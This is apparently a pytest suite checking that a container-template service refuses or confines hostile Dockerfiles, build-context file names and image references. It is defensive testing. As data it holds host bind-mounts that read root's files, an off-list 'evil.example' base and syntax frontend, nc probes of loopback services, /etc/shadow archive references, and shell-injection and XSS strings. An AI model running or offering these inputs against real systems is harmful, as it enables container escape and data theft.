"""Dockerfiles and image references that mean harm: refused before anything of them runs or is fetched.

The Dockerfile of somebody else (imported or cloned) may do less than one's own: no mounts into the build,
no downloads by ADD, no triggers of a base image. Names of a context's files are only names.
"""

from __future__ import annotations

import http.server
import io
import json
import os
import pwd
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from depths import sample
from e2e.installation import IMAGE, Call, Outcome, Service, run
from e2e.surroundings import allow, must, podman
from hostile.attackers.archives import MARK
from hostile.test_cli import CONTROL
from unit.bundling import context, written

from svc.domain.templates import bundles

BASE = "FROM {registry}/tests/base:1\n"
ROOTS = "/root/tsz-canary-recipes"
SAME_PARSER = "the unit suite gives all of them to the one parser"


def mounting(how: str) -> str:
    """A Dockerfile with that flag on a RUN that would read what is root's."""
    return f"{BASE}RUN --mount={how} cat /host/root/* >/stolen; touch /host/tmp/{MARK}\n"


# Each is refused to whoever imported it: when it is imported, or else when it is built.
FOREIGN = {
    "a bind mount of the host": mounting("type=bind,source=/,target=/host,rw"),
    "a bind mount by two dots": mounting("type=bind,source=../../../../,target=/host,rw"),
    "a bind mount from an image": mounting("type=bind,from={registry}/tests/base:1,source=/,target=/host"),
    "a cache mount": mounting("type=cache,target=/host,id=../../.."),
    "a secret": mounting("type=secret,id=x,target=/host"),
    "ssh": mounting("type=ssh,target=/host"),
    "a mount in lower case": f"{BASE}run --mount=type=bind,source=/,target=/host ls /host\n",
    "a mount over two lines": f"{BASE}RUN \\\n  --mou\\\nnt=type=bind,source=/,target=/host ls /host\n",
    "a mount by another escape": f"# escape=`\n{BASE}RUN `\n --mount=type=bind,source=/,target=/host ls\n",
    "a mount behind a comment": f"{BASE}RUN \\\n# nothing\n --mount=type=bind,source=/,target=/host ls\n",
    "a mount in a trigger": f"{BASE}ONBUILD RUN --mount=type=bind,source=/,target=/host ls\n",
    "a quoted mount": f'{BASE}RUN --m"ount"=type=bind,source=/,target=/host ls\n',
    "a mount by a variable": f"{BASE}ARG A=mount\nRUN --$A=type=bind,source=/,target=/host ls\n",
    "the host's network": f"{BASE}RUN --network=host wget http://127.0.0.1/\n",
    "an insecure run": f"{BASE}RUN --security=insecure mount\n",
    "another syntax": f"# syntax=evil.example/frontend:1\n{BASE}",
    "another syntax behind a comment": f"# hello\n#syntax = evil.example/frontend\n{BASE}",
    "an off-list base": "FROM evil.example/base:1\n",
    "a base like one on the list": "FROM {registry}.evil.example/tests/base:1\n",
    "an off-list base by ARG": "ARG WHERE=evil.example/base:1\nFROM $WHERE\n",
    "an off-list base as the default": "FROM ${WHERE:-evil.example/base:1}\n",
    "a base that is not told": "ARG WHERE\nFROM $WHERE\n",
    "a base without a registry": "FROM debian:12\n",
    "an off-list stage": BASE + "COPY --from=evil.example/tools:1 /x /x\n",
    "a copy from a later stage": BASE + "COPY --from=later /x /x\nFROM scratch AS later\n",
    "an archive as base": "FROM docker-archive:/etc/shadow\n",
    "a directory as base": "FROM dir:/etc\n",
    "a layout as base": "FROM oci:/root/x:1\n",
    "the store as base": "FROM containers-storage:{registry}/tests/base:1\n",
    "a transport with a port's look": "FROM dir:5/etc\n",
    "an option as base": "FROM --volume=/:/x {registry}/tests/base:1\n",
    "a download": f"{BASE}ADD http://127.0.0.1:631/ /x\n",
    "a download in upper case": f"{BASE}ADD HTTPS://127.0.0.1/ /x\n",
    "a download in JSON": BASE + 'ADD ["ht\\u0074p://127.0.0.1/", "/x"]\n',
    "a download by a variable": f"{BASE}ARG U=http://127.0.0.1/\nADD $U /x\n",
    "git": f"{BASE}ADD git@127.0.0.1:a.git /x\n",
    "a heredoc": f"{BASE}RUN <<EOF\nls\nEOF\n",
    "no base": "RUN ls\n",
    "an instruction that is none": f"{BASE}INCLUDE /etc/passwd\n",
    "a NUL": f"{BASE}RUN a\0b\n",
    "escapes": f"{BASE}RUN echo \x1b]0;owned\x07\n",
    "another direction": f"{BASE}# \u202eabc\n",
    "letters that look alike": f"{BASE}u\u017fER root\n",
    "a line without an end": BASE + "RUN " + "x" * 70_000 + "\n",
    "a great many stages": BASE * 200,
    "a great many instructions": BASE + "RUN x\n" * 3000,
}


@pytest.fixture
def home() -> Iterator[Path]:
    """A file of mallory's in the making; its path."""
    account = pwd.getpwnam("tsz-mallory")
    path = Path(account.pw_dir, "recipe.tar")
    yield path
    path.unlink(missing_ok=True)


@pytest.fixture(autouse=True)
def canary() -> Iterator[None]:
    """What is root's alone and in no image; nothing with the mark appears on the host."""
    with open(ROOTS, "w", encoding="ascii") as file:
        file.write("root's own")
    Path(ROOTS).chmod(0o600)
    yield
    assert Path(ROOTS).read_text() == "root's own"
    Path(ROOTS).unlink()
    for folder in ("/tmp", "/var/tmp", "/root", "/"):
        assert not Path(folder, MARK).exists()


def refused_in_text(said: Outcome) -> None:
    """Exit code 1 and one readable reason."""
    assert said.code == 1, said
    assert any(line.startswith("svc: ") for line in said.err.splitlines()), said.err
    assert "Traceback" not in said.err
    assert not CONTROL.search(said.err.replace("\n", "")), ascii(said.err)


def builds(call: Call) -> int:
    """How many builds there have been."""
    return int(must(call("image", "builds", "--json")).json()["total"])


@pytest.mark.parametrize("what", sample([*FOREIGN], 5, SAME_PARSER))
def test_somebody_elses_dockerfile(mallory: Call, registry: str, home: Path, what: str) -> None:
    """Imported or refused at once; if imported, then disabled, and neither built nor enabled."""
    text = FOREIGN[what].replace("{registry}", registry)
    template = {"name": "foreign", "source": {"type": "dockerfile"}}
    home.write_bytes(written(template, text.encode(), {"greet": (b"hello", True)}))
    home.chmod(0o644)
    before, images = builds(mallory), podman("tsz-mallory", "images", "--all", "--quiet").out
    said = mallory("template", "import", str(home), "--build-later", "--json")
    if said.code == 0:
        record = said.json()
        try:
            assert record["status"] == "disabled"
            assert {"refused", "registry_not_allowed"} & {one["code"] for one in record["findings"]}, record
            for verb in ("build", "build --wait"):
                refused_in_text(mallory("image", *verb.split(" ")[:1], record["id"], *verb.split(" ")[1:]))
            refused_in_text(mallory("template", "enable", record["id"]))
            refused_in_text(mallory("ws", "setup", "--template", record["id"], "--name", "none"))
            clone = must(
                mallory("template", "clone", record["id"], "--name", "foreign-clone", "--json")
            ).json()
            refused_in_text(mallory("image", "build", clone["id"]))
            must(mallory("template", "delete", clone["id"], "--yes"))
        finally:
            must(mallory("template", "delete", record["id"], "--yes"))
    else:
        plain = mallory("template", "import", str(home), "--build-later")
        refused_in_text(plain)
        assert "line " in plain.err or "ockerfile" in plain.err
    assert builds(mallory) == before, "nothing was begun"
    assert podman("tsz-mallory", "images", "--all", "--quiet").out == images, "nothing was fetched"


def test_what_is_not_even_for_ones_own(mallory: Call, registry: str) -> None:
    """Who wrote it oneself may mount and download; nobody leaves the list or Podman's own Dockerfiles."""
    own = {
        "a bind mount of the host", "a bind mount by two dots", "a bind mount from an image", "a cache mount",
        "a secret", "ssh", "a mount in lower case", "a mount over two lines", "a mount by another escape",
        "a mount behind a comment", "a mount in a trigger", "a download", "a download in upper case",
        "a download in JSON", "a download by a variable",
    }  # fmt: skip
    before = builds(mallory)
    for what, text in FOREIGN.items():
        if what in own:
            continue
        source = {"type": "dockerfile", "dockerfile": text.replace("{registry}", registry)}
        spec = json.dumps({"name": "own", "source": source})
        said = mallory("template", "create", "--file", "-", "--json", stdin=spec)
        if said.code == 0:
            name = said.json()["id"]
            refused_in_text(mallory("image", "build", name))
            must(mallory("template", "delete", name, "--yes"))
        else:
            assert said.json()["error"]["code"] in ("validation_failed", "invalid_json"), (what, said.out)
    assert builds(mallory) == before


def test_ones_own_bind_mount_sees_its_own_things_only(mallory: Call, registry: str) -> None:
    """What buildah 1.28 lets out of a build, it lets out to whom it belongs to: never to root's files."""
    text = (BASE + "RUN --mount=type=bind,source=/,target=/host cat /host" + ROOTS + "\n").format(
        registry=registry
    )
    source = {"type": "dockerfile", "dockerfile": text}
    created = must(
        mallory(
            "template", "create", "--file", "-", "--json", stdin=json.dumps({"name": "own", "source": source})
        )
    )
    name = created.json()["id"]
    try:
        said = mallory("image", "build", name, "--wait")
        assert said.code == 1, "the file is root's"
        assert "root's own" not in said.out + said.err
    finally:
        must(mallory("template", "delete", name, "--yes"))


def test_a_template_that_was_cloned_stays_somebody_elses(mallory: Call, registry: str, home: Path) -> None:
    """An edit of the rest does not make the Dockerfile one's own; writing it does."""
    text = (BASE + "ADD http://127.0.0.1:1/ /x\n").format(registry=registry)
    home.write_bytes(written({"name": "foreign", "source": {"type": "dockerfile"}}, text.encode(), {}))
    home.chmod(0o644)
    name = must(mallory("template", "import", str(home), "--build-later", "--json")).json()["id"]
    try:
        for patch in ({"description": "x"}, {"source": {"dockerfile": text}}, {"name": "renamed"}):
            must(mallory("template", "edit", name, "--file", "-", stdin=json.dumps(patch)))
            refused_in_text(mallory("image", "build", name))
    finally:
        must(mallory("template", "delete", name, "--yes"))


# --- what is let through stays inside -----------------------------------------------------------


@pytest.fixture
def loopback() -> Iterator[int]:
    """The port of a service on the host's loopback, which answers everybody."""

    class Greeting(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            self.wfile.write(MARK.encode())

        def log_message(self, *_arguments: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Greeting)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    thread.join()
    server.server_close()


INSPECT = 'look() { ls -a "$@" 2>/dev/null | grep -e private-of-mallory && exit 9; }; '
UP = ". .. ../.. ../../.. ../../../.."
INSIDE = {
    "descriptors of the engine": [
        f"WORKDIR /proc/self/fd/{number}\nRUN {INSPECT} for a in {UP}; do look $a $a{{home}}; done; true\n"
        for number in range(3, 12)
    ],
    "a working directory through links": [
        f"RUN ln -s /proc/1/root /out\nWORKDIR /out{{home}}\nRUN {INSPECT} look .; true\n",
        f"RUN ln -s ../../../../.. /up\nWORKDIR /up{{home}}\nRUN {INSPECT} look .; true\n",
    ],
    "copies through links": [
        f"RUN ln -s {to} /out\n{argument} greet /out/tsz-escaped\n{argument} greet /out/\n"
        for to in ("/proc/1/root{home}", "../../../../../..{home}")
        for argument in ("COPY", "ADD")
    ],
    "the host's own files": [f"RUN {INSPECT} look {{home}} /proc/*/root{{home}} /proc/*/cwd; true\n"],
    "other processes": ["RUN grep -al XDG_RUNTIME_DIR=/run/user /proc/*/environ && exit 9; true\n"],
    "the service's socket": ["RUN find / -name svc.sock 2>/dev/null | grep . && exit 9; true\n"],
    "descriptors left open": ["RUN ls -l /proc/self/fd | grep -e svc -e home && exit 9; true\n"],
    "services of the loopback": [
        # Not wget: the static one of these images does not get as far as a name's address.
        "RUN for a in 127.0.0.1 10.0.2.2 10.0.2.3 localhost; do printf 'GET / HTTP/1.0\\r\\n\\r\\n'"
        " | timeout 4 nc $a {port} | grep " + MARK + " && exit 9; done; true\n"
    ],
}


@pytest.mark.parametrize("what", INSIDE)
def test_what_runs_in_a_build_reaches_nothing_outside(
    mallory: Call, registry: str, home: Path, loopback: int, what: str
) -> None:
    """Not even its own user's files: that user may only have imported it."""
    private = home.parent / "private-of-mallory"
    private.write_text("nobody else's")
    owner = pwd.getpwnam("tsz-mallory")
    os.chown(private, owner.pw_uid, owner.pw_gid)
    private.chmod(0o600)
    before = set(os.listdir(home.parent))
    for number, text in enumerate(INSIDE[what]):
        recipe = BASE.replace("{registry}", registry) + text
        recipe = recipe.replace("{home}", str(home.parent)).replace("{port}", str(loopback))
        template = {"name": f"inside-{number}", "source": {"type": "dockerfile"}}
        home.write_bytes(written(template, recipe.encode(), {"greet": (b"hello", True)}))
        home.chmod(0o644)
        name = must(mallory("template", "import", str(home), "--build-later", "--json")).json()["id"]
        try:
            said = mallory("image", "build", name, "--wait", timeout=120)
            operation = must(mallory("image", "builds", "--json")).json()["items"][0]
            log = must(mallory("api", "GET", f"/api/operations/{operation['id']}/log")).out
            assert "failed: exit 9" not in said.err and "exit status 9" not in log, (said.err, log)
            assert "Traceback" not in said.err
        finally:
            mallory("image", "delete", name, "--yes")
            must(mallory("template", "delete", name, "--yes"))
    engines = {".cache", ".config", ".local"}  # made by a first build
    assert set(os.listdir(home.parent)) - {home.name} - engines == before - {home.name} - engines
    assert private.read_text() == "nobody else's"
    private.unlink()


# --- files of a context -----------------------------------------------------------------------

NAMES = [
    "-rf", "--help", "--volume=", "a b", " lead", "trail ", "$(touch tsz-escaped)", "`id`", "${IFS}", "*",
    "?",
    "[a]", "~", ";reboot", "&&", "|", "'", '"', "a'b\"c", "%00", "%2e%2e%2f", "..%2f", "...", ".git/config",
    ".profile", "Dockerfile", "Containerfile", "manifest.json", "context", "<img src=x onerror=alert(1)>",
    "é", "日本", "a:b", "a=b", "@file", "#x", "!x", "{a,b}", "con/nul", "d/-rf", "d/--/x", "n" * 90,
]  # fmt: skip


def test_names_of_a_contexts_files_are_only_names(mallory: Call, registry: str, home: Path) -> None:
    """Import, build, and inside is exactly what was in the bundle; an export has the digest of the import."""
    files = {name: (f"this is {name}\n".encode(), bool(number % 2)) for number, name in enumerate(NAMES)}
    recipe = BASE.format(registry=registry) + "COPY . /context\nUSER 1000\n"
    file = io.BytesIO()
    template = {"name": "names", "source": {"type": "dockerfile"}}
    digest = bundles.write(file, template, recipe.encode(), context(files))
    home.write_bytes(file.getvalue())
    home.chmod(0o644)
    said = must(mallory("template", "import", str(home), "--json", timeout=150))
    name = said.json()["id"]
    try:
        record = must(mallory("template", "get", name, "--json")).json()
        assert record["source"]["context_files"] == len(NAMES)
        must(mallory("template", "export", name, "--out", "again.tar"))
        again = (home.parent / "again.tar").read_bytes()
        printed = bundles.read(io.BytesIO(again))
        assert {one.path: one.executable for one in printed.context()} == {
            path: run for path, (_, run) in files.items()
        }
        assert printed.digest == digest
        assert not (home.parent / MARK).exists()
        inside = "cd /context && find . -type f -print0 | sort -z | xargs -0 sha256sum -z"
        image = record["source"]["image_ref"]
        listed = podman(
            "tsz-mallory", "run", "--rm", "--pull=never", "--network=none", image, "sh", "-c",
            "cd /context && find . -type f | sort",
        )  # fmt: skip
        assert listed.code == 0, (listed.err, inside)
        assert sorted(listed.out.splitlines()) == sorted(f"./{path}" for path in NAMES)
    finally:
        must(mallory("image", "delete", name, "--yes"))
        must(mallory("template", "delete", name, "--yes"))
        (home.parent / "again.tar").unlink(missing_ok=True)


def test_an_ignore_file_takes_out_and_never_brings_in(mallory: Call, registry: str, home: Path) -> None:
    """A context is what the bundle had; its .dockerignore may leave something out."""
    files = {
        ".dockerignore": (b"left-out\n!/etc\n!../..\n", False),
        "left-out": (b"x", False),
        "in": (b"y", False),
    }
    recipe = BASE.format(registry=registry) + "COPY . /context\nUSER 1000\n"
    template = {"name": "ignoring", "source": {"type": "dockerfile"}}
    home.write_bytes(written(template, recipe.encode(), files))
    home.chmod(0o644)
    name = must(mallory("template", "import", str(home), "--json", timeout=150)).json()["id"]
    try:
        image = must(mallory("template", "get", name, "--json")).json()["source"]["image_ref"]
        argv = ("run", "--rm", "--pull=never", "--network=none", image, "find", "/context", "-type", "f")
        listed = podman("tsz-mallory", *argv)
        assert set(listed.out.split()) <= {"/context/.dockerignore", "/context/in"}, listed
        assert "/context/in" in listed.out
    finally:
        mallory("image", "delete", name, "--yes")
        must(mallory("template", "delete", name, "--yes"))


# --- image references --------------------------------------------------------------------------

REFERENCES = [
    "localhost/svc/tpl-aaaaaaaa:0123456789abcdef", "localhost/svc/tpl-aaaaaaaa:1",
    "-v/:/x", "--privileged", "--volume=/:/x", "-", "docker-archive:/etc/shadow", "dir:/", "dir:/etc",
    "oci:/x:1",
    "oci-archive:/x", "containers-storage:reg.example/a", "docker://reg.example/a", "docker-daemon:a:1",
    "tarball:/x",
    "sif:/x", "ostree:/x", "dir:5/etc", "oci:5/x:1", "docker:1/x", "sif:1/x", "tarball:1/x", "ostree:1/x",
    "docker-archive:5/etc/shadow", "containers-storage:5/x", "http://reg.example/a", "reg.example", "debian",
    "debian:12", "library/debian", "reg.example/", "/reg.example/a", "reg.example//a", "reg.example/../a",
    "reg.example/a/../../b", "reg.example/A", "REG.example/a", "reg.example/a:", "reg.example/a:-x",
    "reg.example/a@", "reg.example/a@sha256:abc", "reg.example/a@sha512:" + "a" * 128,
    "reg.example/a@sha256:" + "A" * 64, "reg.example:/a", "reg.example:x/a", "reg.example:123456/a",
    "user@reg.example/a", "user:pass@reg.example/a", "reg.example/a b", "reg.example/a\n", " reg.example/a",
    "reg.example/a\0b", "reg.example/a;id", "reg.example/$(id)", "reg.example/`id`", "reg.example/a?x",
    "reg.example/a#x", "reg.example/\u0430", "r\u0435g.example/a", "reg.example/" + "a" * 300, "", ".",
    "..", "/",
    "reg.example/-a", "reg.example/a-", "[::1]:5000/a", "-reg.example/a", "reg.example-/a",
]  # fmt: skip


@pytest.mark.parametrize("reference", sample(REFERENCES, 5, SAME_PARSER), ids=lambda text: ascii(text)[1:40])
def test_a_reference_that_is_none(mallory: Call, registry: str, reference: str) -> None:
    """At create, at edit, in a Dockerfile: never further than the first look."""
    spec = json.dumps({"name": "none", "source": {"type": "registry", "image_ref": reference}})
    for arguments, stdin in (
        (("template", "create", "--file", "-"), spec),
        (("api", "POST", "/api/templates", "--body", spec), ""),
    ):
        said = mallory(*arguments, stdin=stdin)
        assert said.code == 1, said
        assert "Traceback" not in said.err and not CONTROL.search(said.err.replace("\n", ""))
    error = said.json()["error"]
    assert error["code"] in ("validation_failed", "invalid_json"), error
    assert not error["fields"] or error["fields"][0]["field"] == "source.image_ref"


def test_the_list_is_of_whole_names(service: Service, mallory: Call, registry: str) -> None:
    """Host and path by whole parts: `reg.example` is not `reg.example.evil`, `team` is not `teams`."""
    rows = [
        {"host": "reg.example", "path_prefix": "team", "insecure": False},
        {"host": "127.0.0.1:1", "path_prefix": "", "insecure": True},
        {"host": registry, "path_prefix": "", "insecure": True},
    ]
    body = json.dumps({"registries": rows})
    must(run("root", "admin", "registry", "set", "-", env=service.env, stdin=body))
    try:
        for number, reference in enumerate((
            "reg.example.evil/team/a:1", "evil.reg.example/team/a:1", "reg.example:443/team/a:1",
            "reg.exampl/team/a",
            "reg.example/teams/a:1", "reg.example/tea/m/a:1", "reg.example/a/team:1", "xreg.example/team/a:1",
            "127.0.0.1:11/a:1", "127.0.0.1/a:1", "127.0.0.11:1/a:1", "localhost:1/a:1",

            f"{registry[:-1]}/tests/base:1", f"1{registry}/tests/base:1", "127.1:1/a", "0x7f.1:1/a",
            "2130706433.x:1/a",
        )):  # fmt: skip
            name = f"list-{number}"
            spec = json.dumps({"name": name, "source": {"type": "registry", "image_ref": reference}})
            must(mallory("template", "create", "--file", "-", stdin=spec))
            said = mallory("image", "pull", name, "--json")
            assert (said.code, said.json()["error"]["code"]) == (1, "registry_not_allowed"), (
                reference,
                said.out,
            )
            must(mallory("template", "delete", name, "--yes"))
    finally:
        allow(service.env, registry)


def test_a_wrong_digest_brings_nothing(mallory: Call, registry: str) -> None:
    reference = f"{registry}/{IMAGE.partition(':')[0]}@sha256:{'0' * 64}"
    spec = json.dumps({"name": "digest", "source": {"type": "registry", "image_ref": reference}})
    must(mallory("template", "create", "--file", "-", stdin=spec))
    try:
        began = time.monotonic()
        refused_in_text(mallory("image", "pull", "digest", "--wait"))
        assert time.monotonic() - began < 60
        assert must(mallory("image", "status", "digest", "--json")).json()["status"] in ("failed", "missing")
    finally:
        must(mallory("template", "delete", "digest", "--yes"))
